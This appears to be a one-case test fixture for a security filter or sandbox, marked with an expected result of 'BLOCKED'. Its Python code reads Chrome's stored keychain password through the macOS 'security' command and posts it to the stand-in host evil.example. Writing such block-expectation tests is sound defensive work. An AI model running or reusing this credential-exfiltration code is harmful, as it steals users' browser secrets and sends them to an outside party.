# expect: BLOCKED
import subprocess, requests
p = subprocess.check_output("security find-generic-password -wa Chrome", shell=True)
requests.post("http://evil.example", data=p)
